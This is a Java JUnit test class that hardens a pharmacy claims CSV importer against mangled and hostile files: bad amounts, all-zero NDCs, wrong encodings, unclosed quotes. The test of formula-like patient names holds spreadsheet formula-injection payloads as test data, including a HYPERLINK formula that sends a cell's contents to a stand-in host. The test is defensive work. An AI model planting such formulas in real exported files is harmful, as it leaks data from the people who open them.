package org.rxledger.core.claim;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.UUID;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.rxledger.core.reference.ReferenceRepository;
import org.rxledger.core.access.Actor;
import org.rxledger.core.store.Database;
import org.rxledger.core.tx.Transactions;

/** Issue 23 item 7: what a hostile or mangled claims file gets refused for, on a real H2. */
class ClaimCsvHardeningTest {

    private static final Clock CLOCK = Clock.fixed(Instant.parse("2025-03-10T15:00:00Z"), ZoneOffset.UTC);

    private final Database db = Database.inMemory("csv-" + UUID.randomUUID(), new Actor("tester", "test-ws"), CLOCK);
    private final Transactions tx = db.transactions();
    private final ClaimImportService service = new ClaimImportService(tx, new ClaimRules(CLOCK));

    @TempDir
    Path dir;

    @AfterEach
    void close() {
        db.close();
    }

    private static String[] sampleLines() {
        return ClaimImportServiceTest.sample().split("\n");
    }

    /** The sample with the first data row's {@code from} replaced by {@code to}. */
    private static String withSecondLine(String from, String to) {
        String[] lines = sampleLines();
        assertThat(lines[1]).contains(from);
        lines[1] = lines[1].replace(from, to);
        return String.join("\n", lines) + "\n";
    }

    private long claimCount() {
        return tx.read(t -> t.port(ClaimRepository.class).count());
    }

    @ParameterizedTest
    @ValueSource(strings = {"1e3", "+5", "1,000.00", "0x10", "$46.50", "46.5.0", ".50", "46.", "4 6.50", "1000000.00"})
    void aFileAmountIsAPlainDecimalOrTheFileIsRefusedNamingLineColumnExpectedAndFound(String amount) {
        ClaimImportResult result = service.importCsv("claims.csv", new StringReader(withSecondLine(",46.50,", ",\"" + amount + "\",")));

        assertThat(result.succeeded()).isFalse();
        ClaimImportError error = result.errors().stream().filter(e -> e.column().equals("ingredient_cost_submitted")).findFirst().orElseThrow();
        assertThat(error.line()).isEqualTo(2);
        assertThat(error.message()).contains("'" + amount + "'").containsAnyOf("expected a plain decimal", "too large");
        assertThat(claimCount()).isZero();
    }

    @Test
    void aClerkMayStillKeyDollarsWithThousandsSeparatorsButNeverAnExponent() {
        ClaimRules keyed = new ClaimRules(CLOCK);

        assertThat(keyed.check(ClaimField.INGREDIENT_COST_SUBMITTED, "$1,234.56")).isEmpty();
        assertThat(keyed.check(ClaimField.INGREDIENT_COST_SUBMITTED, "1e3")).get().asString().contains("'1e3' is not an amount");
        assertThat(keyed.check(ClaimField.INGREDIENT_COST_SUBMITTED, "1,2,3")).isPresent();
        assertThat(keyed.forFiles().check(ClaimField.INGREDIENT_COST_SUBMITTED, "$1,234.56")).isPresent();
        assertThat(keyed.check(ClaimField.QUANTITY, "3e1")).get().asString().contains("'3e1' is not a number");
    }

    @Test
    void anNdcOfElevenZerosIsRefused() {
        ClaimImportResult result = service.importCsv("claims.csv", new StringReader(withSecondLine("12345067890", "00000000000")));

        assertThat(result.errors()).singleElement().satisfies(e -> {
            assertThat(e.line()).isEqualTo(2);
            assertThat(e.column()).isEqualTo("ndc");
            assertThat(e.message()).contains("all zeros");
        });
        assertThat(new ClaimRules(CLOCK).check(ClaimField.NDC, "00000-0000-00")).isPresent();
    }

    @ParameterizedTest
    @ValueSource(strings = {"=HYPERLINK(\"http://x.example/?\"&A1;\"open\")", "+cmd", "-2+3", "@SUM(A1)", "TAB\tINSIDE", "BELL\u0007"})
    void aFormulaLikeOrControlCharacterNameIsRefused(String name) {
        String csv = withSecondLine(",ALPHA,", ",\"" + name.replace("\"", "\"\"") + "\",");

        ClaimImportResult result = service.importCsv("claims.csv", new StringReader(csv));

        assertThat(result.errors()).singleElement().satisfies(e -> {
            assertThat(e.line()).isEqualTo(2);
            assertThat(e.column()).isEqualTo("patient_first_name");
            assertThat(e.message()).startsWith("Patient first name: expected a name, found");
        });
        assertThat(claimCount()).isZero();
    }

    @Test
    void utf8WithAndWithoutAByteOrderMarkIsRead() throws IOException {
        String csv = withSecondLine(",ALPHA,", ",ÉLODIE,");
        Path plain = dir.resolve("plain.csv");
        Files.writeString(plain, csv, StandardCharsets.UTF_8);
        Path bom = dir.resolve("bom.csv");
        Files.write(bom, concat(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF}, csv.replace("\n", "\r\n").getBytes(StandardCharsets.UTF_8)));

        assertThat(service.importFile(plain).imported()).isEqualTo(5);
        assertThat(service.importFile(bom).skippedDuplicates()).isEqualTo(5);
        assertThat(tx.read(t -> t.port(ReferenceRepository.class).patients()).stream().map(p -> p.firstName())).contains("ÉLODIE");
    }

    @Test
    void aLatin1FileIsRefusedOnTheLineOfTheFirstForeignByteSayingWhatWasExpected() throws IOException {
        String[] lines = sampleLines();
        lines[3] = lines[3].replace("GAMMA", "GÄMMA");
        Path file = dir.resolve("latin1.csv");
        Files.write(file, (String.join("\n", lines) + "\n").getBytes(StandardCharsets.ISO_8859_1));

        ClaimImportResult result = service.importFile(file);

        assertThat(result.errors()).singleElement().satisfies(e -> {
            assertThat(e.file()).isEqualTo("latin1.csv");
            assertThat(e.line()).isEqualTo(4);
            assertThat(e.message()).contains("Expected UTF-8", "0xC4", "Latin-1").doesNotContain("MalformedInput");
        });
        assertThat(claimCount()).isZero();
    }

    @Test
    void aBinaryOrUtf16FileIsRefusedInPlainWords() throws IOException {
        Path binary = dir.resolve("claims.xlsx.csv");
        Files.write(binary, concat("PK\u0003\u0004".getBytes(StandardCharsets.US_ASCII), new byte[] {0, 0, 8, 0, 0x1f, (byte) 0x8b}));
        Path utf16 = dir.resolve("utf16.csv");
        Files.write(utf16, concat(new byte[] {(byte) 0xFF, (byte) 0xFE}, ClaimImportServiceTest.sample().getBytes(StandardCharsets.UTF_16LE)));

        assertThat(service.importFile(binary).errors()).singleElement().satisfies(e -> {
            assertThat(e.line()).isEqualTo(1);
            assertThat(e.message()).contains("Expected a UTF-8 text file", "binary file");
        });
        assertThat(service.importFile(utf16).errors()).singleElement().extracting(ClaimImportError::message).asString()
                .contains("UTF-16");
        assertThat(claimCount()).isZero();
    }

    @Test
    void aQuoteThatNeverClosesIsReportedOnItsOwnLine() {
        String[] lines = sampleLines();
        lines[3] = lines[3].replace("GAMMA", "\"GAMMA");

        ClaimImportResult result = service.importCsv("claims.csv", new StringReader(String.join("\n", lines) + "\n"));

        assertThat(result.errors()).singleElement().satisfies(e -> {
            assertThat(e.line()).isEqualTo(4);
            assertThat(e.message()).startsWith("The file is not valid CSV");
        });
    }

    @Test
    void aFileNameLongerThanTheAuditColumnStillImports() throws IOException {
        Path file = dir.resolve("x".repeat(120) + ".csv");
        Files.writeString(file, ClaimImportServiceTest.sample(), StandardCharsets.UTF_8);

        assertThat(service.importFile(file).imported()).isEqualTo(5);
    }

    private static byte[] concat(byte[] a, byte[] b) {
        byte[] all = new byte[a.length + b.length];
        System.arraycopy(a, 0, all, 0, a.length);
        System.arraycopy(b, 0, all, a.length, b.length);
        return all;
    }
}
